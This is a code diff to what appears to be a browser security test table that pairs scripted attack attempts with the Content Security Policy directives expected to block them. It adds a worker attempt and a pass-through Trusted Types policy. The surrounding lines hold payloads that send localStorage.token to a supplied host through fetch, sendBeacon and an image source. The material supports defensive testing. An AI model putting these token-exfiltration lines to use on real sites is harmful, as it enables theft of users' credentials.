@@ -28,6 +28,12 @@ const ATTEMPTS: [what: string, stoppedBy: string, script: (to: string) => string
     "require-trusted-types-for",
     () => `document.createElement("button").setAttribute("onclick", "window.ran = 1")`,
   ],
+  ["a worker", "require-trusted-types-for", () => `new Worker("/robots.txt")`],
+  [
+    "a policy that lets text pass",
+    "trusted-types",
+    () => `trustedTypes.createPolicy("service-worker", { createHTML: (text) => text })`,
+  ],
   ["fetch", "connect-src", (to) => `fetch("${to}/?" + localStorage.token).catch(() => {})`],
   ["a beacon", "connect-src", (to) => `navigator.sendBeacon("${to}", localStorage.token)`],
   ["a picture", "img-src", (to) => `new Image().src = "${to}/?" + localStorage.token`],
